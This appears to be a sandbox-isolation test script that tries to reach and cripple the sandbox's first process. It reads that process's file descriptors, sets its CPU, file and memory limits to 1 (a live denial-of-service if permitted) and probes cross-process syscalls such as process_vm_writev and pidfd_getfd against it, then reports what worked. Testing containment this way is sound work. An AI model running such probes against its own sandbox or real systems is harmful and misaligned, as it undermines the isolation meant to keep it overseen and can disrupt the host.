"""Take over or starve the first process inside, which belongs to the sandbox and not to us."""

import ctypes
import json
import os
import resource
import sys

reached = []
for number in os.listdir("/proc/1/fd"):
    for flags in (os.O_RDONLY, os.O_WRONLY):
        try:
            opened = os.open(f"/proc/1/fd/{number}", flags | os.O_NONBLOCK)
        except OSError:
            continue
        target = os.readlink(f"/proc/self/fd/{opened}")
        if int(number) > 2:
            reached.append(f"{number} {target}")
        os.close(opened)
for kind in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
    try:
        resource.prlimit(1, kind, (1, 1))
    except OSError:
        continue
    reached.append(f"limit {kind} of the first process")
libc = ctypes.CDLL(None, use_errno=True)
handle = libc.syscall(434, 1, 0)
for name, call in {
    "pidfd_getfd": (438, handle, 5, 0),
    "process_mrelease": (448, handle, 0),
    "kcmp": (312, 1, os.getpid(), 0, 0, 0),
    "process_madvise": (440, handle, 0, 0, 4, 0),
    "process_vm_writev": (311, 1, 0, 0, 0, 0, 0),
    "move_pages": (279, 1, 0, 0, 0, 0, 0),
}.items():
    if libc.syscall(*call) >= 0:
        reached.append(name)
os.write(int(sys.argv[1]), json.dumps(reached).encode())
